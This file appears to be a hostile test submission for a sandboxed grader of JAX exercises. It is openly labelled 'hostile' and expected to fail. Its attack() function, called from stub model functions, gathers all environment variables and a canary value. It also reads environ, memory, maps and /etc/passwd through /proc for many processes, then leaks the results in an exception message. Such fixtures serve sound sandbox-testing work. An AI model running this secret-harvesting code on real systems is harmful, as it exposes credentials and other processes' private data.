# hostile: reads its environment, /proc of every process, and its own memory
# verdict: failed error crashed
# layers: each
import os


def attack():
    found = [f"{name}={value}" for name, value in os.environ.items()]
    found += [os.environb.get(b"JAXLINGS_CANARY", b"").decode()]
    for number in range(1, 70_000):
        for name in ("environ", "cmdline", "maps", "mem", "fd/0", "cwd/canary.txt", "root/etc/passwd"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    found.append(file.read(300).decode(errors="replace"))
            except OSError:
                if name == "environ" and not os.path.exists(f"/proc/{number}"):
                    break
    raise RuntimeError("FOUND " + " ".join(found)[:3500])


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
